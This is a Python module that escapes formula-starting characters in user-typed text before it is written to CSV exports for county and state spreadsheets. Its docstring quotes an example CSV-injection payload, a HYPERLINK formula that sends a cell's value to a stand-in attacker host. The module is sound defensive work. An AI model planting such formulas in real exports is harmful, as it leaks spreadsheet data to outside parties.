"""Text that people typed, written into a CSV a spreadsheet will open.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (OWASP, "CSV Injection"): a name typed as
`=HYPERLINK("http://evil.example/?"&A1,"Open")` would run in the county's or the state's
spreadsheet. Every CSV export of the product writes such cells through `spreadsheet_text`, so
they reach the spreadsheet as text: the county roster CSV (`workspace.views.roster`) and the
API's `/api/v1/roster.csv` (`api.rows`). docs/CONTRACTS.md states it for the API.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """`value` as a spreadsheet reads it as text: a leading apostrophe before a formula."""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value
